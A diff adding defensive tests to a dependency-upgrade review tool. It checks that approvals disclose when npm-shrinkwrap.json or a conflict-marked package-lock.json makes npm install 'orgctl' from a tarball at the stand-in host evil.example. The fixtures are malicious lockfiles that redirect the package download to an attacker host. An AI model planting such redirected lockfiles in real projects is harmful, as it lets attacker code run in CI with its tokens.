@@ -90,3 +90,93 @@ describe("R61-1: the project's bundle is its package.json's, whatever the lock's
     expect(r.proof).toMatch(/❌.*not accepted.*bundleDependencies/);
   });
 });
+
+/**
+ * R61-2 (medium): npm installs head's npm-shrinkwrap.json in place of its package-lock.json (R54-1),
+ * but the review took only a change of package.json or package-lock.json for an upgrade of
+ * orgctl: a pull request adding or changing npm-shrinkwrap.json alone was an engine change whose
+ * approval was told nothing of what it trusts (no orgctl version, no source), where the same
+ * change of package-lock.json names orgctl's source and the first package from elsewhere. Once
+ * merged, the review job's npm ci installs what the shrinkwrap names and runs it with its token.
+ */
+describe('R61-2: an approval of a change to npm-shrinkwrap.json is told what it installs (fails by design on 1965d72)', () => {
+  const project = { name: 'acme-org', version: '1.0.0', dependencies: { orgctl: `^${VERSION}` } };
+  const manifest = JSON.stringify(project, null, 2);
+  const registryLock = lockOf(project, { 'node_modules/orgctl': fromRegistry(VERSION) });
+  /** A lock installing orgctl VERSION from evil.example's tarball. */
+  const evilLock = lockOf(project, {
+    'node_modules/orgctl': { ...fromRegistry(VERSION), resolved: `https://evil.example/orgctl-${VERSION}.tgz` },
+  });
+
+  it('the oracle: npm installs orgctl from the shrinkwrap (evil.example), not from package-lock.json', async () => {
+    const dir = tempDir('orgctl-r61-npm-');
+    writeFileSync(join(dir, 'package.json'), manifest);
+    writeFileSync(join(dir, 'package-lock.json'), registryLock);
+    writeFileSync(join(dir, 'npm-shrinkwrap.json'), evilLock);
+    const tree = (await new Arborist({ path: dir }).loadVirtual()) as unknown as {
+      inventory: Map<string, { resolved: string }>;
+    };
+    expect(tree.inventory.get('node_modules/orgctl')?.resolved).toBe(`https://evil.example/orgctl-${VERSION}.tgz`);
+  });
+
+  it.each([
+    ['added beside the package-lock.json base installs', { 'package-lock.json': registryLock }],
+    ['changed, base installing from its own npm-shrinkwrap.json', { 'npm-shrinkwrap.json': registryLock }],
+  ])('npm-shrinkwrap.json %s: the approval names evil.example', (_, base) => {
+    const r = judgeUpgradeCommits(
+      VERSION,
+      { 'package.json': manifest, ...base },
+      { 'package.json': manifest, ...base, 'npm-shrinkwrap.json': evilLock },
+      ['npm-shrinkwrap.json'],
+    );
+    expect(r.engine).toMatch(/npm-shrinkwrap\.json.*evil\.example/);
+  });
+});
+
+/**
+ * R61-2's class: an upgrade whose head lock the review cannot read as npm does (git's conflict
+ * markers, which npm merges as it sees fit: R59-3) had its approval told nothing either, where npm
+ * installs the merge (evil.example's orgctl, here).
+ */
+describe("R61-2's class: an upgrade's approval is told when head's lock cannot be read (fails by design on 1965d72)", () => {
+  const project = { name: 'acme-org', version: '1.0.0', dependencies: { orgctl: `^${VERSION}` } };
+  const manifest = JSON.stringify(project, null, 2);
+  const conflicted = [
+    '{',
+    `  "name": "acme-org", "version": "1.0.0", "lockfileVersion": 3, "requires": true,`,
+    '  "packages": {',
+    `    "": ${JSON.stringify(project)},`,
+    '<<<<<<< HEAD',
+    `    "node_modules/orgctl": ${JSON.stringify({ ...fromRegistry(VERSION), resolved: 'https://evil.example/orgctl.tgz' })}`,
+    '||||||| base',
+    `    "node_modules/orgctl": ${JSON.stringify(fromRegistry(VERSION))}`,
+    '=======',
+    `    "node_modules/orgctl": ${JSON.stringify(fromRegistry(VERSION))}`,
+    '>>>>>>> theirs',
+    '  }',
+    '}',
+  ].join('\n');
+
+  it('the oracle: npm installs the merge of a conflicted package-lock.json (orgctl from evil.example)', async () => {
+    const dir = tempDir('orgctl-r61-npm-');
+    writeFileSync(join(dir, 'package.json'), manifest);
+    writeFileSync(join(dir, 'package-lock.json'), conflicted);
+    const tree = (await new Arborist({ path: dir }).loadVirtual()) as unknown as {
+      inventory: Map<string, { resolved: string }>;
+    };
+    expect(tree.inventory.get('node_modules/orgctl')?.resolved).toBe('https://evil.example/orgctl.tgz');
+  });
+
+  it("head's package-lock.json with git's conflict markers: the approval is told what it cannot know", () => {
+    const r = judgeUpgradeCommits(
+      VERSION,
+      {
+        'package.json': manifest,
+        'package-lock.json': lockOf(project, { 'node_modules/orgctl': fromRegistry(VERSION) }),
+      },
+      { 'package.json': manifest, 'package-lock.json': conflicted },
+      ['package-lock.json'],
+    );
+    expect(r.engine).toMatch(/approving it trusts .*conflict markers/);
+  });
+});
